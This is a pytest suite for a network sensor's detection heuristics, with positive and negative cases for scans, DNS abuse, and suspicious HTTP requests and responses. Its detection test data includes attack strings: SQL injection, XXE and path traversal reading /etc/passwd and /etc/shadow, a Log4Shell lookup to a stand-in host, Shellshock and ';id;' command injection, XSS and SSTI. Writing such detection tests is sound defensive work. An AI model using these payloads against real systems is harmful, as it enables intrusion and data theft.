"""Heuristics through the production sensor (tests/kit: build_sensor with whitelist, ignore,
condense and throttle stages): a positive and a negative case for every heuristic."""

from __future__ import annotations

import re

import pytest

from core.config import ConfigError, load_config
from core.heuristics import Heuristics
from core.heuristics.engine import REGISTRY, HeuristicEngine, build_heuristics
from core.trails.store import TrailStore
from tests.kit import SensorKit
from tests.kit import pcapgen as g

ROWS = [
    ("66.66.66.66", "malware (test)", "(static)"),
    ("198.51.100.90", "sinkhole testsink (malware)", "(static)"),
    ("198.51.100.91", "parking site (suspicious)", "(static)"),
    ("listed-nx.example", "malware (test)", "(static)"),
]
T0 = 1_700_000_000
LAN, WAN, WAN2 = "10.0.0.66", "203.0.113.9", "198.51.100.7"


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    return TrailStore.from_rows(ROWS, str(tmp_path_factory.mktemp("store")))


@pytest.fixture()
def run(store, tmp_path):
    """run(list of (sec, frame), **config) -> every event a whole run writes (production path)."""

    def feed(packets, **overrides):
        kit = SensorKit(store, folder=str(tmp_path), USE_HEURISTICS=True, **overrides)
        events = kit.replay(packets)
        assert not kit.errors, kit.errors
        return events

    return feed


def infos(events):
    return [e.info for e in events]


def syn(src, dst, dport, flags=g.SYN, sport=40000):
    return g.ether(g.ipv4(src, dst, g.tcp(sport, dport, flags=flags)))


def udp(src, dst, sport, dport, payload=b"x"):
    return g.ether(g.ipv4(src, dst, g.udp(sport, dport, payload)))


def http(src, dst, path="/", dport=80, **kw):
    return g.ether(g.ipv4(src, dst, g.tcp(50000, dport, flags=0x18, payload=g.http_request(path=path, **kw))))


def response(src, dst, **kw):
    return g.ether(g.ipv4(src, dst, g.tcp(80, 50000, flags=0x18, payload=g.http_response(**kw))))


def nx(name, client=WAN, rcode=3):
    return g.ether(g.ipv4("8.8.8.8", client, g.udp(53, 40000, g.dns_response(name, rcode=rcode))))


def query(name, client=LAN):
    return g.ether(g.ipv4(client, "8.8.8.8", g.udp(40000, 53, g.dns_query(name))))


# --- configuration ----------------------------------------------------------------------------------

def test_disabled_engine_is_the_noop(store, tmp_path):
    config = load_config(overrides={"LOG_DIR": str(tmp_path), "USE_HEURISTICS": "false"})
    assert type(build_heuristics(config, store, None, None)) is Heuristics


def test_unknown_disabled_heuristic_is_rejected(store, tmp_path):
    config = load_config(overrides={"LOG_DIR": str(tmp_path), "USE_HEURISTICS": "true",
                                    "DISABLED_HEURISTICS": "port_scaning"})
    with pytest.raises(ConfigError):
        HeuristicEngine(config, store, None, None)


def test_every_registered_heuristic_can_be_disabled(run):
    scan = [(T0 + i, syn(WAN, WAN2, 1000 + i)) for i in range(20)]
    assert "potential port scanning" in infos(run(scan))
    assert "potential port scanning" not in infos(run(scan, DISABLED_HEURISTICS="port_scanning, dga"))
    assert len(REGISTRY) >= 13


def test_bundled_patterns_compile_line_by_line(tmp_path):
    # load_patterns compiles the bundled file's sections as one alternation each (bad lines are
    # only looked for when that fails), so every shipped line must compile alone.
    from core.heuristics import patterns as p

    for _kind, _desc, lines in p.read_sections(p.HTTP_FILE):
        if lines and lines[0].startswith("@any "):
            lines = lines[1:]
        for line in lines:
            re.compile(line, re.IGNORECASE | re.DOTALL)
    assert p.load_patterns().problems == []
    broken = tmp_path / "http.txt"
    broken.write_text("[request: bad]\n@any x\nunion select\n(unclosed\n[path: names]\n/a\\.php\n")
    loaded = p.load_patterns(http_file=str(broken))
    assert [desc for desc, _, _ in loaded.requests] == ["bad"] and len(loaded.problems) == 1
    assert loaded.requests[0][2].search("UNION SELECT 1") and not loaded.requests[0][2].search("(unclosed")


# --- scans ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("flags", [g.SYN, 0x00, 0x01, 0x29])
def test_port_scan_syn_and_stealth(run, flags):
    events = run([(T0 + i, syn(WAN, WAN2, 1000 + i, flags=flags)) for i in range(12)])
    hits = [e for e in events if e.info == "potential port scanning"]
    assert len(hits) == 1 and hits[0].trail == WAN and hits[0].type == "IP"


def test_port_scans_of_two_targets_are_condensed_into_one_line(store, tmp_path):
    """The production event path condenses scan events per (source, trail): one line, both targets."""
    kit = SensorKit(store, folder=str(tmp_path), USE_HEURISTICS=True)
    live = kit.feed_all([(T0 + i, syn(WAN, target, 1000 + i)) for target in (WAN2, LAN) for i in range(12)])
    assert live == []  # held by the condense stage until its period ends or the sensor closes
    lines = kit.close()
    assert len(lines) == 1 and "potential port scanning" in lines[0]
    assert [(e.trail, e.dst_ip) for e in kit.events] == [(WAN, f"{LAN},{WAN2}")]


def test_port_scan_ack_sweep_and_few_ports_are_silent(run):
    assert run([(T0 + i, syn(WAN, WAN2, 1000 + i, flags=0x10)) for i in range(40)]) == []
    assert run([(T0 + i, syn(WAN, WAN2, 1000 + i % 10)) for i in range(40)]) == []


def test_port_scan_sliding_window_catches_slow_scan_but_not_slower(run):
    # 12 ports, one every 2 s: 22 s < SCAN_WINDOW (30): caught even across a 30 s boundary
    start = T0 - T0 % 30 + 20
    assert "potential port scanning" in infos(run([(start + 2 * i, syn(WAN, WAN2, 1000 + i)) for i in range(12)]))
    # one port every 4 s: never more than 8 inside any 30 s window
    assert run([(start + 4 * i, syn(WAN, WAN2, 1000 + i)) for i in range(30)]) == []


def test_port_scan_whitelisted_source_is_silent(run, tmp_path):
    path = tmp_path / "wl.txt"
    path.write_text(WAN + "\n")
    assert run([(T0, syn(WAN, WAN2, 1000 + i)) for i in range(20)], USER_WHITELIST=str(path)) == []


def test_udp_scan_positive_and_service_replies_negative(run):
    events = run([(T0 + i, udp(WAN, WAN2, 40000, 100 + i)) for i in range(12)])
    assert infos(events) == ["potential udp scanning"]
    # a QUIC server answering 30 client sockets of one host is not a scan
    assert run([(T0, udp(WAN2, LAN, 443, 50000 + i)) for i in range(30)]) == []


def test_infection_scan_positive_and_negatives(run):
    sweep = [(T0, syn("10.0.0.5", f"10.9.{i // 250}.{i % 250}", 445)) for i in range(40)]
    events = run(sweep)
    assert [(e.type, e.trail) for e in events if e.info == "potential infection"] == [("PORT", "445")]
    # below threshold, or a non-worm port
    assert run(sweep[:30]) == []
    assert not [e for e in run([(T0, syn("10.0.0.5", f"10.9.0.{i}", 8080)) for i in range(40)])
                if e.info == "potential infection"]


def test_web_scan_positive_and_negatives(run):
    events = run([(T0, http(WAN, WAN2, f"/dir{i}/x")) for i in range(12)])
    assert [(e.type, e.trail) for e in events if "web scanning" in e.info] == [("PATH", "*")]
    assert run([(T0, http(WAN, WAN2, f"/static/{i}.css")) for i in range(40)]) == []
    assert run([(T0, http("10.0.0.5", "10.0.0.6", f"/dir{i}/x")) for i in range(40)]) == []


# --- DNS --------------------------------------------------------------------------------------------

def test_nxdomain_flood_and_below_threshold(run):
    events = run([(T0 + i, nx(f"n{i}.flood.net")) for i in range(22)])
    assert [e.trail for e in events if e.info.startswith("excessive no such domain")] \
        == ["(n0,n1,n10,n11,n12,n13,n14,n15,n16,n17,...).flood.net"]
    assert run([(T0 + i, nx(f"n{i}.flood.net")) for i in range(20)]) == []


def test_nxdomain_retransmits_count_once_per_prefix(run):
    assert run([(T0 + i, nx("same.flood.net", client=LAN)) for i in range(60)]) == []


def test_nxdomain_exact_name_flood_from_public_client(run):
    events = run([(T0 + i, nx("same.flood.net")) for i in range(22)])
    assert [e.trail for e in events] == ["same.flood.net"]


def test_nxdomain_skips_listed_whitelisted_and_local_names(run):
    assert run([(T0 + i, nx(f"a{i}.localdomain")) for i in range(30)]) == []
    assert run([(T0 + i, nx(f"x{i}.www.google.com")) for i in range(30)]) == []


def test_dga_entropy_and_consonants(run):
    assert infos(run([(T0, nx("xkqwzlvbnmfghjd.com"))])) == ["entropy threshold no such domain (suspicious)"]
    assert infos(run([(T0, nx("bcdfgbcdfgbcdfg.com"))])) == ["consonant threshold no such domain (suspicious)"]
    assert run([(T0, nx("wikipedia.org")), (T0, nx("my-xkqwzlvbnmfghjd.com")),
                (T0, nx("xkqwzlvbnmfghjd.com", rcode=0))]) == []


def test_dns_exhaustion_fires_once_and_then_skips_trails(run):
    packets = [(T0 + i // 100, query(f"r{i}.victim.example")) for i in range(1005)]
    events = run(packets, DNS_EXHAUSTION_THRESHOLD="1000")
    assert infos(events) == ["potential dns exhaustion (suspicious)"]
    assert run(packets[:900], DNS_EXHAUSTION_THRESHOLD="1000") == []
    assert run([(T0 + i, query(f"{i}-1-2-3.dnsbl.example")) for i in range(30)], DNS_EXHAUSTION_THRESHOLD="10") == []


def test_dns_exhaustion_counts_distinct_prefixes_only(run):
    """A base's first prefix is kept on its own until a second arrives: repeats of one prefix never
    count, the third distinct one crosses a threshold of 3, and a new window starts over."""
    repeats = [(T0, query("a.victim.example"))] * 5
    assert run(repeats + [(T0, query("b.victim.example"))], DNS_EXHAUSTION_THRESHOLD="3") == []
    events = run(repeats + [(T0, query("b.victim.example")), (T0 + 1, query("a.victim.example")),
                            (T0 + 2, query("c.victim.example"))], DNS_EXHAUSTION_THRESHOLD="3")
    assert [(e.trail, e.info) for e in events] == [("(c).victim.example", "potential dns exhaustion (suspicious)")]
    later = [(T0 + 61, query("c.victim.example")), (T0 + 61, query("d.victim.example"))]
    assert run(repeats + [(T0, query("b.victim.example"))] + later, DNS_EXHAUSTION_THRESHOLD="3") == []


def test_long_domain(run):
    name = "a" * 30 + ".example.com"
    events = run([(T0, query(name))])
    assert [(e.type, e.trail, e.reference) for e in events] == [("DNS", f"({'a' * 30}).example.com", "(heuristic)")]
    assert run([(T0, query("a" * 20 + ".example.com")), (T0, query("a-" * 15 + ".example.com")),
                (T0, query("a" * 30 + ".blogspot.com")), (T0, query("a" * 30 + ".google.com"))]) == []


def test_sinkholed_and_parked_answers(run):
    def answer(name, ip):
        return g.ether(g.ipv4("8.8.8.8", LAN, g.udp(53, 40000, g.dns_response(name, [("A", ip)]))))

    events = run([(T0, answer("bad.example.com", "198.51.100.90")), (T0, answer("park.example.net", "198.51.100.91"))])
    assert [(e.trail, e.info) for e in events] == [("(bad.example).com", "sinkholed by testsink (malware)"),
                                                   ("(park.example).net", "parked site (suspicious)")]
    assert run([(T0, answer("ok.example.com", "192.0.2.1")), (T0, answer("www.google.com", "198.51.100.90"))]) == []


# --- HTTP requests ----------------------------------------------------------------------------------

@pytest.mark.parametrize("path,info", [
    ("/p.php?id=1%20UNION%20SELECT%20a,b%20FROM%20users", "potential sql injection"),
    ("/p?id=1'%20or%20'1'='1", "potential sql injection"),
    ("/x?q=<!ENTITY%20xxe%20SYSTEM%20\"file:///etc/passwd\">", "potential xxe injection"),
    ("/x?f=php://filter/convert.base64-encode/resource=index", "potential php injection"),
    ("/x?user=*)(|(uid=*", "potential ldap injection"),
    ("/s?q=<script>alert(1)</script>", "potential xss injection"),
    ("/s?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "potential xss injection"),
    ("/a?x=${jndi:ldap://evil/a}", "potential remote code execution"),
    ("/a?cmd=;id;", "potential remote code execution"),
    ("/a?name={{7*7}}", "potential ssti injection"),
    ("/d?file=../../../../etc/passwd", "potential directory traversal"),
    ("/d?file=/etc/shadow", "potential data leakage"),
    ("/.htaccess", "potential config file access"),
    ("/x?a=w00tw00t", "potential web scan"),
    ("/cgi-bin/setup?dns1=6.6.6.6&dns2=6.6.6.7", "potential dns changer"),
])
def test_suspicious_request_families(run, path, info):
    events = run([(T0, http(LAN, WAN, path))])
    assert f"{info} (suspicious)" in infos(events)


@pytest.mark.parametrize("path", [
    "/search?q=select+a+good+restaurant", "/index.php?id=10&page=2&sort=asc", "/products?category=shoes&color=red",
    "/wiki/Union_(set_theory)", "/api/v1/items?fields=id,name&limit=50", "/login?next=/account/settings",
    "/blog/2024/how-to-cat-a-file", "/search?q=o'reilly+books", "/img/logo.png?v=3", "/a?from=2024-01-01&to=2024-02-01",
    "/watch?v=dQw4w9WgXcQ&t=42s", "/download/report.pdf?id=5", "/setup.exe?version=2",
])
def test_ordinary_requests_are_silent(run, path):
    assert run([(T0, http(LAN, WAN, path, headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"}))]) == []


def test_post_body_battery(run):
    frame = http(LAN, WAN, "/submit", method="POST", body=b"q=1 UNION ALL SELECT pwd FROM users")
    events = run([(T0, frame)])
    assert [(e.type, e.info) for e in events] == [("HTTP", "potential sql injection (suspicious)")]
    assert run([(T0, http(LAN, WAN, "/submit", method="POST", body=b"name=alice&comment=hello+there"))]) == []


def test_suspicious_user_agents(run):
    for ua in ("masscan/1.0", "sqlmap/1.7#stable", "Mozilla/5.0 zgrab/0.x", "() { :; }; /bin/bash -c id"):
        assert "user agent (suspicious)" in infos(run([(T0, http(LAN, WAN, "/", headers={"User-Agent": ua}))])), ua
    for ua in ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
               "curl/8.0", "Microsoft-CryptoAPI/10.0", "Debian APT-HTTP/1.3 (2.6.1)", "python-requests/2.31"):
        assert run([(T0, http(LAN, WAN, "/", headers={"User-Agent": ua}))]) == [], ua


def test_iot_download_direct_download_and_negatives(run):
    events = run([(T0, http(LAN, WAN, "/bins/mirai.arm7", host=WAN)), (T0, http(LAN, WAN2, "/a.exe", host="dl.example"))])
    assert infos(events) == ["potential iot-malware download (suspicious)", "direct .exe download (suspicious)"]
    assert run([(T0, http(LAN, WAN, "/index.html", host=WAN)), (T0, http(LAN, WAN, "/installer-setup-2024.exe")),
                (T0, http(LAN, "10.0.0.7", "/a.exe")), (T0, http(LAN, WAN, "/cgi-bin/a.exe"))]) == []


def test_missing_host_only_when_enabled(run):
    frame = http(LAN, WAN, "/x", host=None)
    assert run([(T0, frame)]) == []
    assert infos(run([(T0, frame)], CHECK_MISSING_HOST="true")) == ["missing host header (suspicious)"]


def test_proxy_probe(run):
    assert infos(run([(T0, http(LAN, WAN, "http://proxyjudge.example/azenv.php", host="proxyjudge.example"))])) \
        == ["potential proxy probe (suspicious)"]
    assert run([(T0, http(LAN, WAN, "http://news.example/today", host="news.example"))]) == []


def test_suspicious_path_names(run):
    assert "potential web scan (suspicious)" in infos(run([(T0, http(WAN, WAN2, "/phpmyadmin/"))]))
    assert "non-existent page (suspicious)" in infos(run([(T0, http(WAN, WAN2, "/x.php"))]))
    assert run([(T0, http(WAN, WAN2, "/index.php")), (T0, http(WAN, WAN2, "/about.php"))]) == []


def test_forwarded_for_annotates_source(run):
    events = run([(T0, http(WAN2, WAN, "/s?q=<script>x</script>", headers={"X-Forwarded-For": "192.0.2.55, 10.1.1.1"}))])
    assert events[0].src_ip == f"{WAN2},192.0.2.55"


# --- HTTP responses ---------------------------------------------------------------------------------

def test_http_responses(run):
    assert infos(run([(T0, response(WAN, LAN, headers={"X-Sinkhole": "yes"}))])) == ["sinkhole response (malware)"]
    seized = response(WAN, LAN, headers={"Content-Type": "text/html"},
                      body=b"<html><title>This domain has been seized</title></html>")
    assert infos(run([(T0, seized)])) == ["seized domain (suspicious)"]
    hta = response(WAN, LAN, headers={"Content-Type": "application/hta; charset=utf-8"})
    assert [(e.trail, e.info) for e in run([(T0, hta)])] == [("application/hta", "content type (suspicious)")]
    ok = response(WAN, LAN, headers={"Content-Type": "text/html", "Server": "nginx"},
                  body=b"<html><title>Domain names for sale</title></html>")
    assert run([(T0, ok)]) == []
